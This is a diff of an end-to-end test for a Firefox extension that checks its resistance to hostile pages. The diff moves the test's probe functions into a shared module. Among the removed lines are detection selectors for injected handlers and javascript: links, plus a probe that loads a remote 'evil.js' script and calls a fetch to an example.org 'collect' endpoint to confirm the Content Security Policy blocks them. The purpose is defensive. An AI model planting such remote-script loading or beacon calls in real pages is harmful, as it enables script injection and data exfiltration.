@@ -13,8 +13,9 @@ import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { after, before, describe, it } from "node:test";
 import { fileURLToPath } from "node:url";
-import { launchFirefoxWithExtension, until } from "../e2e/site/firefox.mjs";
+import { extensionPage, launchFirefoxWithExtension, until } from "../e2e/site/firefox.mjs";
 import { panelFrame, respond } from "../e2e/site/site.mjs";
+import { CSP_TRY, INJECTED, PANEL_FOREIGN_NODES, REDRAFT_MS, SENDS } from "./probes.mjs";
 
 const HERE = dirname(fileURLToPath(import.meta.url));
 const ROOT = join(HERE, "..", "..");
@@ -24,24 +25,6 @@ const ATTACKS = readFileSync(join(HERE, "page_attacks.js"), "utf8")
   .split("\n")
   .filter((line) => !line.startsWith("//"))
   .join("\n");
-const INJECTED = () => [
-  window.__pwned ?? 0,
-  document.querySelectorAll('.och-injected, [onerror], [onload], a[href^="javascript:"]').length,
-];
-const PANEL_FOREIGN_NODES = () =>
-  document.querySelectorAll("script:not([src]), img, svg, iframe, object, embed, .och-injected, [onerror], [onload]").length;
-const SENDS = () => [window.__sendPresses, window.__enterPresses];
-const REDRAFT_MS = async (code) => {
-  const draft = document.querySelector('[data-testid="och-draft"]');
-  const before = draft.value;
-  const started = performance.now();
-  document.querySelector(`[data-testid="och-problem-${code}"]`).click();
-  while (draft.value === before || !draft.value) {
-    if (performance.now() - started > 15000) return -1;
-    await new Promise((r) => setTimeout(r, 5));
-  }
-  return performance.now() - started;
-};
 const median = (xs) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)];
 
 describe("Firefox: hostile pages and page scripts", { timeout: 900_000 }, () => {
@@ -209,13 +192,7 @@ describe("Firefox: hostile pages and page scripts", { timeout: 900_000 }, () => 
     // background page), not from another page of ours: the options page in its own tab.
     // (The panel frame has no tabs API in Firefox at all.)
     await panel.click('[data-testid="och-open-options"]');
-    const options = await until(async () => {
-      for (const candidate of await browser.pages()) {
-        const href = await candidate.evaluate(() => location.href).catch(() => "");
-        if (href.includes("/options/options.html")) return candidate;
-      }
-      return null;
-    }, { what: "the options page" });
+    const options = await extensionPage(browser, "/options/options.html");
     const context = await options.evaluate(async () => {
       const me = await browser.tabs.getCurrent();
       const others = (await browser.tabs.query({})).filter((t) => t.id !== me.id);
@@ -358,30 +335,7 @@ describe("Firefox: hostile pages and page scripts", { timeout: 900_000 }, () => 
     await panel.click('[data-testid="och-open-options"]');
     const options = await tabShowing("/options/options.html", "the options page");
     await recordTab(options, seen, false);
-    const TRY = async () => {
-      const violations = [];
-      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
-      const inline = document.createElement("script");
-      inline.textContent = "window.__inline = 1";
-      document.head.appendChild(inline);
-      const remote = document.createElement("script");
-      const remoteLoaded = new Promise((r) => { remote.onload = () => r(true); remote.onerror = () => r(false); });
-      remote.src = "https://example.org/evil.js";
-      document.head.appendChild(remote);
-      const img = document.createElement("img");
-      const imgLoaded = new Promise((r) => { img.onload = () => r(true); img.onerror = () => r(false); });
-      img.src = "https://example.org/pixel.gif";
-      document.body.appendChild(img);
-      let fetched = true;
-      try { await fetch("https://example.org/collect"); } catch { fetched = false; }
-      const out = { inline: window.__inline ?? 0, remote: await remoteLoaded, img: await imgLoaded, fetched };
-      await new Promise((r) => setTimeout(r, 500));
-      img.remove();
-      remote.remove();
-      inline.remove();
-      return { ...out, violations };
-    };
-    const results = { panel: await panel.evaluate(TRY), options: await options.evaluate(TRY) };
+    const results = { panel: await panel.evaluate(CSP_TRY), options: await options.evaluate(CSP_TRY) };
     await options.close();
     await page.close();
     console.log(`CSP in Firefox: ${JSON.stringify(results)}; remote requests that reached the network layer: ${seen.filter((u) => u.includes("example.org")).length}`);
